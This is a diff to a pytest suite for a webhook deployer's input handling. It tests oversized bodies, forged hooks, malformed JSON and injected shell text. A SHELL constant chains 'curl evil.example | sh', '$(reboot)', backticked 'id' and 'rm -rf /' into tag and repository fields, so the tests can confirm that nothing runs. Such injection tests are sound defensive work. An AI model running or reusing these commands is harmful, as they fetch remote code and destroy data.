@@ -1,4 +1,4 @@
-"""A hook's body: its text stays text, and there is never too much of it."""
+"""Bodies of hooks: hostile text, length, and the forms of registries."""
 
 import asyncio
 import json
@@ -7,47 +7,45 @@ from typing import Any
 
 import pytest
 
-from tests.deployer.conftest import (
+from tests.deployer.running_deployer import (
     REGISTRY,
     SECRET,
-    House,
+    RunningDeployer,
     dockerhub_body,
-    settle,
 )
 
 SHELL = "latest; curl evil.example | sh #$(reboot)`id`\n&& rm -rf /"
 
 
-async def test_shell_text_in_a_payload_is_text(
-    house: House, caplog: pytest.LogCaptureFixture
+async def test_shell_text_in_a_payload_is_only_text(
+    deployer: RunningDeployer, caplog: pytest.LogCaptureFixture
 ) -> None:
-    """A tag becomes a command, or a second line of the log."""
+    """It starts nothing, and logs no second line."""
     caplog.set_level(logging.INFO)
     for data in (
         dockerhub_body(SHELL),
         dockerhub_body(repository={"repo_name": SHELL}),
         dockerhub_body(repository={"repo_name": "wetcoats/msrv" + SHELL}),
     ):
-        answer = await house.dockerhub(data)
+        answer = await deployer.dockerhub(data)
         assert answer.status == 202
         assert (await answer.json())["state"] == "ignored"
-    await settle(house)
-    assert house.begun == []
+    await deployer.wait_until_idle()
+    assert deployer.started == []
     assert all("\n" not in each.getMessage() for each in caplog.records)
 
 
 @pytest.mark.parametrize("kind", ["dockerhub", "generic", "registry"])
 async def test_ten_megabytes_are_refused_unread(
-    house: House, kind: str
+    deployer: RunningDeployer, kind: str
 ) -> None:
-    """A body of any length is read into memory."""
     path = {
         "dockerhub": f"/hooks/dockerhub/store/{SECRET}",
         "generic": "/hooks/generic/store",
         "registry": "/hooks/registry/store",
     }[kind]
     reader, writer = await asyncio.open_connection(
-        "127.0.0.1", house.client.port
+        "127.0.0.1", deployer.client.port
     )
     writer.write(
         f"POST {path} HTTP/1.1\r\nHost: x\r\n"
@@ -61,23 +59,25 @@ async def test_ten_megabytes_are_refused_unread(
     await writer.wait_closed()
 
 
-async def test_ten_megabytes_of_unsaid_length(house: House) -> None:
-    """A body that doesn't say how long it is has no limit."""
+async def test_ten_megabytes_of_unknown_length_are_refused(
+    deployer: RunningDeployer,
+) -> None:
 
     async def endless() -> Any:  # noqa: ANN401
         for _ in range(160):
             yield b" " * 65_536
 
-    answer = await house.client.post(
+    answer = await deployer.client.post(
         f"/hooks/dockerhub/store/{SECRET}", data=endless()
     )
     assert answer.status == 413
 
 
-async def test_a_forger_s_body_is_not_read_at_all(house: House) -> None:
-    """A stranger has the deployer wait for bodies."""
+async def test_body_of_a_forged_hook_is_not_read(
+    deployer: RunningDeployer,
+) -> None:
     reader, writer = await asyncio.open_connection(
-        "127.0.0.1", house.client.port
+        "127.0.0.1", deployer.client.port
     )
     writer.write(
         b"POST /hooks/dockerhub/store/wrong HTTP/1.1\r\nHost: x\r\n"
@@ -106,14 +106,15 @@ async def test_a_forger_s_body_is_not_read_at_all(house: House) -> None:
     ],
     ids=lambda body: repr(body[:12]),
 )
-async def test_deep_or_broken_json_is_a_400(house: House, body: bytes) -> None:
-    """Odd JSON ends the deployer, or a 500 tells how it is made."""
-    answer = await house.dockerhub(body)
+async def test_deep_or_invalid_json_is_a_400(
+    deployer: RunningDeployer, body: bytes
+) -> None:
+    answer = await deployer.dockerhub(body)
     assert answer.status == 400
-    assert (await house.generic(body)).status == 400
-    await settle(house)
-    assert house.begun == []
-    assert (await house.client.get("/-/health")).status == 200
+    assert (await deployer.generic(body)).status == 400
+    await deployer.wait_until_idle()
+    assert deployer.started == []
+    assert (await deployer.client.get("/-/health")).status == 200
 
 
 @pytest.mark.parametrize(
@@ -140,15 +141,17 @@ async def test_deep_or_broken_json_is_a_400(house: House, body: bytes) -> None:
     ],
 )
 async def test_wrong_types_and_missing_keys_are_ignored(
-    house: House, data: dict[str, Any], caplog: pytest.LogCaptureFixture
+    deployer: RunningDeployer,
+    data: dict[str, Any],
+    caplog: pytest.LogCaptureFixture,
 ) -> None:
-    """A payload of another form is an error, or worse, a deployment."""
+    """The hook is accepted, logged, and starts nothing."""
     caplog.set_level(logging.INFO)
-    answer = await house.dockerhub(data)
+    answer = await deployer.dockerhub(data)
     assert answer.status == 202
     assert (await answer.json())["state"] == "ignored"
-    await settle(house)
-    assert house.begun == []
+    await deployer.wait_until_idle()
+    assert deployer.started == []
     assert "ignored a hook (dockerhub)" in caplog.text
 
 
@@ -178,11 +181,10 @@ async def test_wrong_types_and_missing_keys_are_ignored(
         ),
     ],
 )
-async def test_a_registry_s_events(
-    house: House, events: object, state: str
+async def test_registry_events_count_only_pushes_of_tags(
+    deployer: RunningDeployer, events: object, state: str
 ) -> None:
-    """Each layer of a push is a deployment, or a push is none."""
-    answer = await house.registry({"events": events})
+    answer = await deployer.registry({"events": events})
     assert answer.status == 202
     assert (await answer.json())["state"] == state
 
@@ -206,9 +208,8 @@ async def test_a_registry_s_events(
         ({}, "ignored"),
     ],
 )
-async def test_a_tag_is_read_where_registries_write_it(
-    house: House, data: dict[str, Any], state: str
+async def test_tag_may_be_a_member_or_end_the_repository(
+    deployer: RunningDeployer, data: dict[str, Any], state: str
 ) -> None:
-    """A name with its tag is about nothing, or any tag is about ours."""
-    answer = await house.generic(json.dumps(data).encode())
+    answer = await deployer.generic(json.dumps(data).encode())
     assert (await answer.json())["state"] == state
